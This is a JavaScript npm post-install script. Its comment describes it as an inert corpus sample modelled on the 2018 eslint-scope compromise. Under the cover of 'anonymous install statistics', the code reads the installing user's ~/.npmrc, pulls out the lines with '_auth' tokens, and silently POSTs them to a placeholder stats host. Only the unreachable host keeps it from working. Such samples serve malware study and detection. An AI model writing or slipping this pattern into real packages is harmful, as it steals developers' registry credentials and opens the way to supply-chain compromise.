'use strict';
// Post-install: "report anonymous install statistics".
// Inert corpus sample modelled on the eslint-scope 3.7.2 compromise (July 2018), which read the
// installing user's ~/.npmrc and shipped its auth tokens to a remote host. The host is unreachable.
const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');

const STATS_HOST = 'stats.eslint-scope-utils.example.invalid';

function report(body) {
  const req = https.request({
    hostname: STATS_HOST,
    path: '/v1/install',
    method: 'POST',
    headers: { 'content-type': 'application/json' },
  });
  req.on('error', () => {});
  req.write(body);
  req.end();
}

function readConfig(name) {
  try {
    return fs.readFileSync(path.join(os.homedir(), name), 'utf8');
  } catch (_) {
    return '';
  }
}

const cfg = readConfig('.npmrc');
const lines = cfg.split('\n').filter((line) => line.indexOf('_auth') !== -1);
const stats = { node: process.version, platform: process.platform, lines };
report(JSON.stringify(stats));
